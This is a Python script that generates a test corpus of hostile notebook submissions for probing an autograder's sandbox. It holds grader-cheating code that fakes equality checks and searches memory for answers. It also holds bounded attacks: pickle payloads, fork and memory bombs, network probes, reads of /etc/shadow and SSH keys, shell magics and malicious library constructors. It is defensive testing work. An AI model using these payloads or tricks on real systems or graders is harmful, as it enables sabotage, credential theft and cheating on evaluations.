"""Generate the hostile corpus in tests/corpus/hostile/ from the release and the master notebooks.

    .venv/bin/python tests/corpus/hostile/make_hostile.py [--release assignments/<version>]
                                                          [--solutions solutions] [--out DIR] [--only ID,ID]

Every case is one folder `<id>/` holding the submission exactly as the grader receives it (an
`<id>.ipynb`, `<id>.zip` or `<id>/` entry, copied into one SUBMISSIONS folder by the test) and an
`expected.json`. The submissions are the RELEASED student notebooks with the master's reference
answers pasted into every answer cell (so the exercises the attack does not target must score full
marks), then the hostile code put into the answer cells of the exercises it attacks. Output is
deterministic (sorted JSON, fixed zip timestamps): regenerating from the same inputs changes no byte.

Hostile code must stay harmless even if the sandbox had a bug: every loop, fork, allocation and
output is bounded; it never modifies or deletes an existing file outside its scratch folder (it
only creates new files named `jaxgrade_*` or opens existing ones for writing without writing);
its effects are detectable instead of damaging: marker files `/tmp/jaxgrade_<what>_<case id>` on
the host, processes whose command line holds `jaxgrade_hostile_<case id>`, connections to a
listener the test opens on 127.0.0.1 (one port of LISTEN_PORTS). The code reports what it found
by raising an exception whose first line (`HOSTILE-REPORT ...`) reaches the student's feedback.

expected.json (read by tests/test_hostile.py):
  case, title, attack        what is tried (for reviewers)
  submission                 entry name inside the case folder
  exercises                  {exercise id: {"score": number | "full" | ">0" | "<full" | "any",
                                            "status": str | [str] (optional)}
                              | {"one_of": [such outcomes]}: an attack whose effect depends on when
                              the parent polls (a race the grader cannot order) may end either way}
  status                     the submission status in grades.csv (str or list of str)
  flags                      {"has": [...], "lacks": [...]}: TA flags of the result
  feedback                   {"contains": [...], "absent": [...], "matches": [regex]}: text of the
                             student's feedback.md with Markdown escapes removed (the only place the
                             child's reports can reach); reports double as positive controls (the
                             attack really ran: forks happened, the daemon was alive, ...)
  outputs_absent             substrings that must appear in none of the student's output files
  host_markers               host paths that must not exist after grading
  process_markers            substrings no process command line may hold after grading
  listener                   true: no connection may reach the test's loopback listener
  must_not                   prose: what must not happen
"""

from __future__ import annotations

import argparse
import copy
import json
import re
import shutil
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[3]
sys.path.insert(0, str(REPO))

from autograder.exercises import CHAPTERS  # noqa: E402
from autograder.exercises.recompile import correct_prediction  # noqa: E402
from autograder.model import ReleaseInfo  # noqa: E402
from autograder.release.masters import find_masters  # noqa: E402

ZIP_TIME = (2026, 10, 1, 12, 0, 0)
LISTEN_PORTS = (47600, 47620)  # [lo, hi): the test listens on one free port of this range
CH02 = CHAPTERS["ch02"]
CH05 = CHAPTERS["ch05"]

# --------------------------------------------------------------------------------------------
# Hostile cell sources. `{case}` is replaced by the case id (str.replace, so braces stay literal).

PATCH_ALLCLOSE = r'''# HOSTILE {case}: make every NumPy / unittest comparison "pass", then answer wrong.
import builtins
import math
import unittest

import numpy
import numpy.testing


def _always(*args, **kwargs):
    return True


def _quiet(*args, **kwargs):
    return None


np.allclose = numpy.allclose = _always
np.array_equal = numpy.array_equal = _always
np.array_equiv = _always
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
for _name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal",
              "assert_almost_equal", "assert_approx_equal", "assert_array_less"):
    setattr(numpy.testing, _name, _quiet)
np.testing = numpy.testing
for _name in ("assertEqual", "assertTrue", "assertAlmostEqual", "assertIn", "assertDictEqual"):
    setattr(unittest.TestCase, _name, _quiet)
math.isclose = _always


class _Swallowed(Exception):
    pass


builtins.AssertionError = _Swallowed


def primitive_histogram(f, *args):
    counts = Counter()
    for eqn in jax.make_jaxpr(f)(*args).jaxpr.eqns:  # top level only, and one too many of each
        counts[eqn.primitive.name] += 2
    return counts
'''

WRONG_FUSION = r'''# HOSTILE {case}: a wrong answer that only a patched comparison would accept.
def fusion_report(f, *args):
    return 999, 1.0
'''

WRONG_DISTANCE = r'''# HOSTILE {case}: wrong everywhere (off by one), gradients NaN at zero distance.
def safe_pairwise_distance(X, Y):
    diff = X[:, None, :] - Y[None, :, :]
    return jnp.sqrt(jnp.sum(diff ** 2, axis=-1)) + 1.0
'''

PEEK = r'''# HOSTILE {case}: look through caller frames and the heap for the grader's expected values.
import gc
import inspect
import sys

_GRADER_MODULES = ("autograder.exercises", "autograder.grade", "autograder.observations", "otter")
_GRADER_FUNCS = ("verdict", "reference_histogram", "measure_compiles", "_dist64", "score_outcomes")


def _peek(args=()):
    grader_frames, grader_objects, expected_like = [], 0, 0
    frame, depth = sys._getframe(1), 0
    while frame is not None and depth < 200:
        name = frame.f_code.co_filename
        if "/exercises/" in name or "/grade/" in name or "observations" in name:
            grader_frames.append(name[-50:])
        print("FRAME", name, frame.f_code.co_name, sorted(frame.f_locals)[:30])
        frame, depth = frame.f_back, depth + 1
    for info in inspect.stack(context=0)[:200]:
        print("STACK", info.filename, info.function)
    modules = sorted(m for m in list(sys.modules) if m.startswith(_GRADER_MODULES))
    truth, control, found_control = None, None, 0
    try:  # safe_pairwise_distance(X, Y): the distances the grader would compare against
        a, b = np.asarray(args[0], np.float64), np.asarray(args[1], np.float64)
        truth = np.sqrt(((a[:, None, :] - b[None, :, :]) ** 2).sum(-1))
        control = [truth.copy()]  # planted on purpose: the scan below must find it (ctl=1)
    except Exception:  # no arguments, or tracers under jit / grad
        pass
    try:  # the child refuses heap walks while student code runs (and reports them as tampering)
        heap, objects = "walked", gc.get_objects()
    except RuntimeError:
        heap, objects = "refused", []
    for i, obj in enumerate(objects):
        if i > 2_000_000:
            break
        try:
            module = type(obj).__dict__.get("__module__")
            if isinstance(module, str) and module.startswith(_GRADER_MODULES):
                grader_objects += 1
            name = getattr(obj, "__name__", "") if callable(obj) else ""
            if isinstance(name, str) and name in _GRADER_FUNCS:
                grader_objects += 1
            if truth is not None and type(obj) in (dict, list, tuple):
                for v in list(obj.values() if type(obj) is dict else obj)[:1000]:
                    if control is not None and v is control[0]:
                        found_control += 1
                    elif getattr(v, "shape", None) == truth.shape and v is not truth:
                        if np.allclose(np.asarray(v, np.float64), truth, atol=1e-3):
                            expected_like += 1
        except Exception:
            pass
    return (f"gf={len(grader_frames)} gm={len(modules)} go={grader_objects} ctl={found_control} "
            f"ex={expected_like} heap={heap} frames={depth}")


_at_cell = _peek()
print("found while the cell ran:", _at_cell)


def safe_pairwise_distance(X, Y):
    raise RuntimeError("HOSTILE-REPORT {case} PEEK " + _peek((X, Y)) + " cell " + _at_cell)
'''

TRICK_HISTOGRAM = r'''# HOSTILE {case}: an empty mapping that claims to be a Counter equal to anything.
class FakeCounter(dict):
    __class__ = property(lambda self: Counter)  # isinstance(x, Counter) is True

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = None

    def items(self):
        return iter(())

    def __len__(self):
        return 7


def primitive_histogram(f, *args):
    return FakeCounter()
'''

TRICK_RECOMPILE = r'''# HOSTILE {case}: an int subclass equal to every number, posing as int.
class SneakyInt(int):
    __class__ = property(lambda self: int)

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__


predicted_compiles = SneakyInt(0)
'''

TRICK_FUSION = r'''# HOSTILE {case}: a "tuple" whose parts equal anything.
class Anything(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = float.__hash__


class FakePair(tuple):
    __class__ = property(lambda self: tuple)

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = tuple.__hash__


def fusion_report(f, *args):
    return FakePair((Anything(0.0), Anything(0.0)))
'''

TRICK_DISTANCE = r'''# HOSTILE {case}: an object equal to everything whose __array__ holds NaN.
class Chameleon:
    __array_priority__ = 1e9

    def __init__(self, shape):
        self.shape = shape
        self.dtype = np.dtype(np.float32)

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = None

    def __array__(self, dtype=None, copy=None):
        return np.full(self.shape, np.nan, np.float32)


def safe_pairwise_distance(X, Y):
    return Chameleon((X.shape[0], Y.shape[0]))
'''

PICKLE = r'''# HOSTILE {case}: pickles with a malicious __reduce__ wherever a naive grader might unpickle.
import glob
import io
import json
import os
import pickle


class Pwn:
    def __reduce__(self):
        return (os.mkdir, ("/tmp/jaxgrade_pwned_{case}",))


_payload = pickle.dumps(Pwn())
_evil_npy = io.BytesIO()
np.save(_evil_npy, np.array([Pwn(), Pwn()], dtype=object), allow_pickle=True)
_planted = []
for _dir in ("/sandbox/scratch/obs", "/sandbox/scratch", "/sandbox/scratch/work", "."):
    for _name, _data in (("observations.pkl", _payload), ("histogram.pkl", _payload),
                         ("results.pkl", _payload), ("evil.npy", _evil_npy.getvalue()),
                         ("histogram.0.npy", _evil_npy.getvalue()),
                         ("recompile.0.npy", _evil_npy.getvalue())):
        try:
            with open(os.path.join(_dir, _name), "wb") as _f:
                _f.write(_data)
            _planted.append(_name)
        except OSError:
            pass

_real_exit = os._exit


def _forge_then_exit(code):
    """child_main ends with os._exit: rewrite every observation file to point at the pickles."""
    for path in glob.glob("/sandbox/scratch/obs/*.json")[:50]:
        try:
            doc = {"format": 1, "exercise": os.path.basename(path)[:-5],
                   "values": {"defined": {"npy": "evil.npy"}, "value": {"npy": "evil.npy"},
                              "entries": {"npy": "evil.npy"}, "__tampered__": {"json": []},
                              "pickle": {"pickle": _payload.hex()}}}
            with open(path, "w") as f:
                json.dump(doc, f)
        except Exception:
            pass
    _real_exit(code)


os._exit = _forge_then_exit


def primitive_histogram(f, *args):
    return {"sin": Pwn(), "cos": Pwn()}


class PickleIsh:
    def __reduce__(self):
        return (os.mkdir, ("/tmp/jaxgrade_pwned_{case}",))

    def __array__(self, dtype=None, copy=None):
        return np.array([[Pwn()]], dtype=object)


def safe_pairwise_distance(X, Y):
    return PickleIsh()


print("planted", len(_planted), "pickles")
'''

OS_EXIT = r'''# HOSTILE {case}: leave the whole process without any cleanup in the middle of the chapter.
import os

def fusion_report(f, *args):
    compiled = jax.jit(f).lower(*args).compile()
    return count_fusions(compiled.as_text()), compiled.cost_analysis()["bytes accessed"]


os._exit(0)
'''

SIGTERM_LOOP = r'''# HOSTILE {case}: ignore SIGTERM/SIGINT/SIGHUP and spin forever.
import signal

for _sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
    signal.signal(_sig, signal.SIG_IGN)
predicted_compiles = 4
while True:
    pass
'''

FORK_BOMB = r'''# HOSTILE {case}: fork as much as the limits allow (bounded), every child sleeping a while.
import os
import time

_born, _refused = 0, 0
for _i in range(200):
    try:
        _pid = os.fork()
    except OSError:
        _refused += 1
        if _refused > 10:
            break
        continue
    if _pid == 0:
        try:
            for _j in range(2):
                if os.fork() == 0:
                    os.execv("/bin/sh", ["sh", "-c", "sleep 300; : jaxgrade_hostile_{case}"])
        except OSError:
            pass
        try:
            os.execv("/bin/sh", ["sh", "-c", "sleep 300; : jaxgrade_hostile_{case}"])
        finally:
            os._exit(0)
    _born += 1
raise RuntimeError(f"HOSTILE-REPORT {case} BOMB forked={_born} refused={_refused}")
'''

CPU_HOG = r'''# HOSTILE {case}: take as much CPU as possible from the jobs graded next to this one: three
# CPU-bound processes (and lowering its priority or pinning itself, which would make it look starved),
# each ending after three minutes of wall clock at most.
import os
import time


def _spin():
    _t = time.monotonic()
    while time.monotonic() - _t < 180:
        pass


_tried = []
for _name, _call in (("nice", lambda: os.nice(19)), ("pin", lambda: os.sched_setaffinity(0, {0}))):
    try:
        _call()
        _tried.append(_name + "=done")
    except OSError:
        _tried.append(_name + "=refused")
for _i in range(2):
    if os.fork() == 0:
        _spin()
        os._exit(0)
_spin()
raise RuntimeError("HOSTILE-REPORT {case} HOG " + " ".join(_tried))
'''

MEMORY_BOMB = r'''# HOSTILE {case}: allocate until refused (at most 64 x 256 MiB, 256 MiB touched).
def safe_pairwise_distance(X, Y):
    hog = []
    for i in range(64):
        block = np.zeros(256 * 2**20, np.uint8)  # calloc: pages cost nothing until touched
        if i == 0:
            block[::4096] = 1  # really use the first block
        hog.append(block)
    return jnp.zeros((X.shape[0], Y.shape[0]), jnp.float32)
'''

DAEMON = r'''# HOSTILE {case}: a double-forked daemon in its own session (bounded: 300 s).
import os

_pid = os.fork()
if _pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            with open("/sandbox/scratch/work/daemon.tmp", "w") as _f:
                _f.write(str(os.getpid()))
            os.rename("/sandbox/scratch/work/daemon.tmp", "/sandbox/scratch/work/daemon.pid")
            os.execv("/bin/sh", ["sh", "-c", "i=0; while [ $i -lt 300 ]; do "
                                 "echo JAXGRADE-HOSTILE > /tmp/jaxgrade_daemon_{case} 2>/dev/null; "
                                 "i=$((i+1)); sleep 1; done; : jaxgrade_hostile_{case}"])
    finally:
        os._exit(0)
os.waitpid(_pid, 0)
predicted_compiles = 4
import time  # noqa: E402

for _i in range(300):  # the grandchild writes its pid (atomically) once it runs
    if os.path.exists("/sandbox/scratch/work/daemon.pid"):
        break
    time.sleep(0.1)
try:
    os.kill(int(open("/sandbox/scratch/work/daemon.pid").read()), 0)
    _alive = 1
except (OSError, ValueError):
    _alive = 0
raise RuntimeError(f"HOSTILE-REPORT {case} DAEMON alive={_alive}")
'''

NETWORK = r'''# HOSTILE {case}: reach the grader's host over the network (loopback and outside).
import errno
import socket

_report = {}


def _try(key, family, kind, addr, payload=b"JAXGRADE-HOSTILE {case}\n"):
    s = None
    try:
        s = socket.socket(family, kind)
        s.settimeout(1.0)
        if kind == socket.SOCK_DGRAM:
            s.sendto(payload, addr)
            _report[key] = "sent"
        else:
            s.connect(addr)
            s.sendall(payload)
            _report[key] = "CONNECTED"
    except OSError as exc:
        _report.setdefault(key, errno.errorcode.get(exc.errno or 0, type(exc).__name__))
    finally:
        if s is not None:
            s.close()


for _port in range(LO, HI):
    _try("lo", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", _port))
    _try("udp", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", _port))
    _try("lo6", socket.AF_INET6, socket.SOCK_STREAM, ("::1", _port, 0, 0))
for _addr in (("1.1.1.1", 53), ("8.8.8.8", 443), ("10.0.2.2", 80), ("169.254.169.254", 80)):
    _try("ext", socket.AF_INET, socket.SOCK_STREAM, _addr)
for _path in ("/run/docker.sock", "/var/run/docker.sock", "/run/systemd/private",
              "/run/dbus/system_bus_socket"):
    _try("unix", socket.AF_UNIX, socket.SOCK_STREAM, _path)
try:
    socket.getaddrinfo("example.com", 80)
    _report["dns"] = "RESOLVED"
except OSError as exc:
    _report["dns"] = type(exc).__name__
predicted_compiles = 4
_connected = sorted(k for k, v in _report.items() if v in ("CONNECTED", "RESOLVED"))
raise RuntimeError("HOSTILE-REPORT {case} NET connected=" + (",".join(_connected) or "none") + " "
                   + str(_report))
'''

ESCAPE = r'''# HOSTILE {case}: find the grader's files (repo, OUT, SUBMISSIONS) and read or write them.
import glob
import os
import re
import sys

_guesses = {"/work/main", os.path.dirname(sys.prefix), os.path.dirname(os.path.dirname(sys.prefix)),
            os.getcwd(), os.path.expanduser("~")}
for _sp in sys.path:  # the editable install names the repository
    for _finder in glob.glob(os.path.join(_sp, "__editable__*finder.py"))[:5]:
        try:
            _guesses.update(re.findall(r"'(/[^']+?)/autograder'", open(_finder).read()))
        except OSError:
            pass
_host_paths = set()
for _proc in ("/proc/1/cmdline", "/proc/self/cmdline", "/proc/1/environ"):  # bwrap's own command line
    try:
        _host_paths.update(p for p in open(_proc, "rb").read().decode(errors="replace").split("\0")
                           if p.startswith("/") and len(p) < 300)
    except OSError:
        pass
try:
    for _line in open("/proc/self/mountinfo"):
        _host_paths.add(_line.split()[3])
except OSError:
    pass
_guesses.update(p for p in _host_paths if not p.startswith(("/usr", "/proc", "/dev", "/sys", "/sandbox")))
_guesses.update(glob.glob("/tmp/pytest-of-*/*/*")[:50])
_guesses.update(glob.glob("/tmp/jaxgrade*")[:20])

_secrets = ["/etc/shadow", "/root/.ssh/id_rsa", "/root/.bash_history", "/proc/1/environ",
            "/proc/1/root/etc/shadow"]
for _g in sorted(_guesses):
    for _pattern in ("autograder/exercises/*.py", "autograder/grade/*.py", "solutions/*.ipynb",
                     "assignments/*/tests/*.py", "assignments/*/manifest.json", "tests/corpus/hostile/*/*",
                     "examples/submissions/*", "*/*.ipynb", "*.ipynb", "*/results.json", "grades.csv",
                     "gradebook.sqlite", ".git/config"):
        _secrets.extend(glob.glob(os.path.join(_g, _pattern))[:20])
    _secrets.append(os.path.join(_g, "autograder", "exercises", "silu_ffi.py"))
    _secrets.append(os.path.join(_g, "solutions", "ch02_performance.ipynb"))
_read = []
for _p in sorted(set(_secrets))[:400]:
    try:
        with open(_p, "rb") as _f:
            if _f.read(64):
                _read.append(_p)
    except OSError:
        pass
for _name in ("autograder.exercises.safe_distance", "autograder.grade.run.chapter", "autograder.observations"):
    try:
        __import__(_name)
        _read.append("import:" + _name)
    except Exception:
        pass

_PRIVATE = ("/sandbox/scratch", "/tmp", "/dev/shm")
_targets = ["../grades.csv", "../../grades.csv", "../../../grades.csv", "results.json", "../results.json",
            "../../results.json", "../../../results.json", "../gradebook.sqlite",
            "/out/grades.csv", "/grades.csv", "/results.json", "/autograder/results/results.json",
            "/sandbox/grades.csv", "/sandbox/lib/jaxgrade_hostile_{case}",
            "/sandbox/.exec/jaxgrade_hostile_{case}", "/tmp/jaxgrade_escape_{case}",
            "/var/tmp/jaxgrade_escape_{case}", "/dev/shm/jaxgrade_escape_{case}"]
for _g in sorted(_guesses):
    for _sub in ("", "autograder", "autograder/exercises", "assignments", "out", "solutions", ".venv"):
        _targets.append(os.path.join(_g, _sub, "jaxgrade_hostile_{case}.txt"))
_escaped, _inside = [], 0
for _t in _targets[:400]:
    _real = os.path.realpath(_t)
    try:  # only ever CREATE a new file: harmless even if the sandbox leaked
        _fd = os.open(_t, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
        os.write(_fd, b"JAXGRADE-HOSTILE {case}\n")
        os.close(_fd)
    except FileExistsError:
        try:  # an existing file: open it for writing, write nothing
            open(_t, "r+b").close()
        except OSError:
            continue
    except OSError:
        continue
    if _real.startswith(_PRIVATE):
        _inside += 1
    else:
        _escaped.append(_real)
for _p in sorted(_secrets)[:200]:  # existing grader files: writable without writing?
    if os.path.isfile(_p) and os.access(_p, os.W_OK) and not os.path.realpath(_p).startswith(_PRIVATE):
        _escaped.append("w:" + _p)
raise RuntimeError(f"HOSTILE-REPORT {case} ESCAPE read={len(_read)} escaped={len(_escaped)} inside={_inside} "
                   f"guesses={len(_guesses)} first={(_read + _escaped)[:3]}")
'''

HUGE_OUTPUT = r'''# HOSTILE {case}: about 200 MB of output (print, raw fd 1 and 2) and a 20 MB error.
import os
import sys

_chunk = ("JAXGRADE-HOSTILE {case} " * 4000 + "\n")
for _i in range(600):
    print(_chunk, end="")
    sys.stderr.write(_chunk)
_raw = _chunk.encode()
for _i in range(700):
    os.write(1, _raw)
    os.write(2, _raw)
predicted_compiles = 4
raise RuntimeError("x" * 20_000_000)
'''

KERNEL_HEAD = r'''%%writefile silu.cc
// HOSTILE {case}
#include <cmath>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <unistd.h>

#include "xla/ffi/api/ffi.h"

namespace ffi = xla::ffi;
'''

KERNEL_TAIL = r'''
XLA_FFI_DEFINE_HANDLER_SYMBOL(Silu, SiluImpl,
                              ffi::Ffi::Bind().Arg<ffi::Buffer<ffi::F32>>().Ret<ffi::Buffer<ffi::F32>>());

XLA_FFI_DEFINE_HANDLER_SYMBOL(SiluBwd, SiluBwdImpl,
                              ffi::Ffi::Bind()
                                  .Arg<ffi::Buffer<ffi::F32>>()
                                  .Arg<ffi::Buffer<ffi::F32>>()
                                  .Ret<ffi::Buffer<ffi::F32>>());
'''

KERNEL_SEGFAULT = KERNEL_HEAD + r'''
// Both handlers crash the process the moment XLA calls them.
static ffi::Error SiluImpl(ffi::Buffer<ffi::F32> x, ffi::ResultBuffer<ffi::F32> y) {
  volatile int* nowhere = nullptr;
  *nowhere = 42;
  std::raise(SIGSEGV);
  return ffi::Error::Success();
}

static ffi::Error SiluBwdImpl(ffi::Buffer<ffi::F32> x, ffi::Buffer<ffi::F32> ct,
                              ffi::ResultBuffer<ffi::F32> out) {
  volatile int* nowhere = nullptr;
  *nowhere = 43;
  std::raise(SIGSEGV);
  return ffi::Error::Success();
}
''' + KERNEL_TAIL

KERNEL_HANG = KERNEL_HEAD + r'''
// Both handlers never return (a volatile counter, so the loop cannot be optimised away).
static ffi::Error SiluImpl(ffi::Buffer<ffi::F32> x, ffi::ResultBuffer<ffi::F32> y) {
  volatile uint64_t spins = 0;
  for (;;) spins = spins + 1;
  return ffi::Error::Success();
}

static ffi::Error SiluBwdImpl(ffi::Buffer<ffi::F32> x, ffi::Buffer<ffi::F32> ct,
                              ffi::ResultBuffer<ffi::F32> out) {
  volatile uint64_t spins = 0;
  for (;;) spins = spins + 1;
  return ffi::Error::Success();
}
''' + KERNEL_TAIL

KERNEL_CTOR = KERNEL_HEAD + r'''
// A correct SiLU whose library constructor tries to write files everywhere and start a daemon.
__attribute__((constructor)) static void jaxgrade_hostile_ctor() {
  const char* paths[] = {"/tmp/jaxgrade_ctor_{case}", "/var/tmp/jaxgrade_ctor_{case}",
                         "/dev/shm/jaxgrade_ctor_{case}", "/work/main/jaxgrade_ctor_{case}",
                         "/work/main/autograder/jaxgrade_ctor_{case}",
                         "/work/main/assignments/jaxgrade_ctor_{case}",
                         "../../jaxgrade_ctor_{case}", "../../../jaxgrade_ctor_{case}",
                         "/sandbox/lib/jaxgrade_ctor_{case}", "/jaxgrade_ctor_{case}"};
  for (const char* p : paths) {
    FILE* f = std::fopen(p, "wx");  // create only: never touches an existing file
    if (f != nullptr) {
      std::fputs("JAXGRADE-HOSTILE {case}\n", f);
      std::fclose(f);
    }
  }
  if (fork() == 0) {
    setsid();
    execl("/bin/sh", "sh", "-c", "sleep 120; : jaxgrade_hostile_{case}", static_cast<char*>(nullptr));
    _exit(0);
  }
}

namespace {

float StableSigmoid(float v) {
  if (v >= 0.0f) return 1.0f / (1.0f + std::exp(-v));
  const float e = std::exp(v);
  return e / (1.0f + e);
}

}  // namespace

static ffi::Error SiluImpl(ffi::Buffer<ffi::F32> x, ffi::ResultBuffer<ffi::F32> y) {
  const float* in = x.typed_data();
  float* out = y->typed_data();
  const int64_t n = static_cast<int64_t>(x.element_count());
  for (int64_t i = 0; i < n; ++i) out[i] = in[i] * StableSigmoid(in[i]);
  return ffi::Error::Success();
}

static ffi::Error SiluBwdImpl(ffi::Buffer<ffi::F32> x, ffi::Buffer<ffi::F32> ct_y,
                              ffi::ResultBuffer<ffi::F32> ct_x) {
  const float* in = x.typed_data();
  const float* g = ct_y.typed_data();
  float* out = ct_x->typed_data();
  const int64_t n = static_cast<int64_t>(x.element_count());
  for (int64_t i = 0; i < n; ++i) {
    const float s = StableSigmoid(in[i]);
    out[i] = g[i] * s * (1.0f + in[i] * (1.0f - s));
  }
  return ffi::Error::Success();
}
''' + KERNEL_TAIL

KERNEL_CTOR_NPROC = KERNEL_HEAD + r'''
#include <cstring>
#include <fcntl.h>

// A correct SiLU whose library constructor, in the kernel child only (its command line names
// kernel_main), forks sleepers until the process limit refuses (at most 400, each gone after 60 s)
// and holds them 20 s: beside the notebook child under one uid, that child could start no thread.
__attribute__((constructor)) static void jaxgrade_hostile_ctor() {
  char cmdline[4096] = {0};
  int fd = open("/proc/self/cmdline", O_RDONLY);
  if (fd < 0) return;
  ssize_t n = read(fd, cmdline, sizeof(cmdline) - 1);
  close(fd);
  bool kernel_child = false;
  for (ssize_t i = 0; i + 11 <= n; ++i) {
    if (std::memcmp(cmdline + i, "kernel_main", 11) == 0) kernel_child = true;
  }
  if (!kernel_child) return;
  FILE* f = std::fopen("/tmp/jaxgrade_ctor_{case}", "wx");  // create only
  if (f != nullptr) {
    std::fputs("JAXGRADE-HOSTILE {case}\n", f);
    std::fclose(f);
  }
  int refused = 0;
  for (int i = 0; i < 400 && refused < 10; ++i) {
    pid_t pid = fork();
    if (pid < 0) {
      ++refused;
      continue;
    }
    if (pid == 0) {
      execl("/bin/sh", "sh", "-c", "sleep 60; : jaxgrade_hostile_{case}", static_cast<char*>(nullptr));
      _exit(0);
    }
  }
  sleep(20);
}
''' + KERNEL_CTOR[KERNEL_CTOR.index("namespace {"):]

JOB_MEMORY_HOG = r'''# HOSTILE {case}: after a correct answer, three fresh interpreters each touch 3 GiB
# (9 GiB together, bounded: over twice the job's 4 GiB share; each far below RLIMIT_AS), held 30 s.
import subprocess
import sys

_touch = "b = bytearray(3 * 2**30)\nimport time\ntime.sleep(30)"
_kids = [subprocess.Popen([sys.executable, "-c", _touch + "  # jaxgrade_hostile_{case}"]) for _ in range(3)]
_codes = [k.wait() for k in _kids]
raise RuntimeError(f"HOSTILE-REPORT {case} HOG codes={_codes}")
'''

CTOR_CHECK = r'''# HOSTILE {case}: did the library constructor run here (inside the sandbox)?
import os

raise RuntimeError("HOSTILE-REPORT {case} CTOR sandbox_tmp="
                   + str(int(os.path.exists("/tmp/jaxgrade_ctor_{case}"))))
'''

KERNEL_INCLUDE = r'''%%writefile silu.cc
// HOSTILE {case}: which files can the compiler see, then include grader files into the kernel.
#if __has_include("kernel.cc")
#warning "VISIBLE own-source (expected)"
#endif
#if __has_include("/etc/shadow")
#warning "VISIBLE /etc/shadow"
#endif
#if __has_include("/etc/passwd")
#warning "VISIBLE /etc/passwd"
#endif
#if __has_include("/work/main/autograder/exercises/silu_ffi.py")
#warning "VISIBLE repo hidden checks (absolute)"
#endif
#if __has_include(<../../../../../../autograder/exercises/silu_ffi.py>)
#warning "VISIBLE repo hidden checks (from the jaxlib include folder)"
#endif
#if __has_include("../../../autograder/exercises/silu_ffi.py")
#warning "VISIBLE repo hidden checks (relative)"
#endif
#if __has_include("/work/main/solutions/ch05_interop.ipynb")
#warning "VISIBLE master notebook"
#endif
#include "../../../autograder/exercises/silu_ffi.py"
#include </work/main/autograder/exercises/silu_ffi.py>
#include "/etc/shadow"
'''

TAMPER_HISTOGRAM = r'''# HOSTILE {case}: replace jax.make_jaxpr with a fake (the answer above stays correct).
_real_make_jaxpr = jax.make_jaxpr


def _fake_make_jaxpr(fun, *args, **kwargs):
    return _real_make_jaxpr(fun, *args, **kwargs)


jax.make_jaxpr = _fake_make_jaxpr
'''

TAMPER_FUSION = r'''# HOSTILE {case}: fake the compiled HLO text and make jax.jit a no-op.
import jax.stages

jax.stages.Compiled.as_text = lambda self, *args, **kwargs: "fusion.1 = fusion\nfusion.2 = fusion\n"
jax.jit = lambda fun, *args, **kwargs: fun
'''

METADATA_NOTE = "# HOSTILE {case}: a cell claiming to be the setup (never run)\nimport os\nos._exit(3)\n"
SELFCHECK_NOTE = "# HOSTILE {case}: a 'self-check' the grader must skip\nimport os\nos._exit(4)\n"

MAGICS = r'''# HOSTILE {case}: shell escapes and IPython magics.
import os

if os.environ.get("HOME", "").startswith("/sandbox/"):  # never outside a sandbox, even a broken one
    !rm -rf ~
!curl -sS -m 3 https://example.com -o /dev/null || echo curl failed
!wget -q -T 3 -O /dev/null http://example.com || echo wget failed
!echo JAXGRADE-HOSTILE > /tmp/jaxgrade_magic_{case}
!cat /etc/shadow 2>&1 | head -c 200
%env
%env HOME=/
_who = !id
_listing = !ls -la / /work /root 2>&1
%sx sh -c 'for i in 1 2 3; do echo $i; done'
get_ipython().system("touch /jaxgrade_magic_{case} 2>/dev/null || true")
predicted_compiles = 4
_id = " ".join(line for line in _who if "uid=" in line)
raise RuntimeError(f"HOSTILE-REPORT {case} MAGIC ran={int(bool(_id))} {_id[:24]}")
'''

MAGICS_BASH = r'''%%bash
# HOSTILE {case}: a bash cell
echo "JAXGRADE-HOSTILE {case}" > "$HOME/../jaxgrade_magic_{case}" 2>/dev/null || true
for i in $(seq 1 50); do sh -c 'sleep 200; : jaxgrade_hostile_{case}' >/dev/null 2>&1 & done
ls -la /sandbox /sandbox/scratch 2>&1 | head -n 20
'''

SYMLINKS = r'''# HOSTILE {case}: links and a FIFO in scratch, named like the files the parent reads.
import json
import os

_OBS = "/sandbox/scratch/obs"
_done = []


def _plant(fn, *args):
    try:
        fn(*args)
        _done.append(args[-1].rsplit("/", 1)[-1])
    except OSError:
        pass


for _name in ("recompile.json", "fusion.json", "safe_distance.json", "histogram.0.npy", "recompile.0.npy"):
    _plant(os.symlink, "/etc/passwd", os.path.join(_OBS, _name))
_plant(os.symlink, "/etc/shadow", os.path.join(_OBS, "evil.npy"))
_plant(os.symlink, "/proc/self/fd/0", "/sandbox/scratch/inputs/safe_distance.json")
# progress.jsonl: the parent follows it while the child runs. A FIFO nobody writes would block an
# open(); a link to the parent's own stdin would block a read.
_plant(os.rename, "/sandbox/scratch/progress.jsonl", "/sandbox/scratch/progress.old")
_plant(os.mkfifo, "/sandbox/scratch/progress.jsonl")
_plant(os.symlink, "/proc/self/fd/0", "/sandbox/scratch/work/progress.jsonl")
predicted_compiles = 4
raise RuntimeError(f"HOSTILE-REPORT {case} LINKS planted={','.join(_done)}")
'''

POISON = r'''# HOSTILE {case}: poison sys.modules and plant modules the grader might import later.
import sys
import types

for _name, _text in (("numpy.py", "raise SystemExit('JAXGRADE-HOSTILE {case}')\n"),
                     ("json.py", "raise SystemExit('JAXGRADE-HOSTILE {case}')\n"),
                     ("sitecustomize.py", "import os; os._exit(5)\n"),
                     ("usercustomize.py", "import os; os._exit(5)\n")):
    for _dir in (".", "/sandbox/scratch", "/sandbox/scratch/work", "/sandbox/scratch/tmp"):
        try:
            with open(f"{_dir}/{_name}", "x") as _f:
                _f.write(_text)
        except OSError:
            pass
_fake_np = types.ModuleType("numpy")
